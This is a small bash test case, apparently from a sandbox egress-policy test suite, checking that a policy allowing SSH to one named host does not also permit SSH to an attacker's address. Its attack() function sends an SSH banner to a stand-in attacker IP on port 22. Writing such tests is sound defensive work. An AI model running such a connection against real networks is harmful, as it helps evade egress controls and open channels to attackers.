# shellcheck shell=bash disable=SC2034,SC2329
# SPDX-License-Identifier: GPL-3.0-or-later
# An entry tcp://allowed-for-git:22 is a name and a port: neither the attacker's port 22 nor the name's other ports are meant.
title='SSH to the attacker, while the policy allows SSH to one host' origin='RESEARCH §2.68'
reason=not_resolved extra=(tcp://other.test:22) forms='output forward run'
attack() { tool send.py stream 198.18.3.66 22 "SSH-2.0-$1"; }
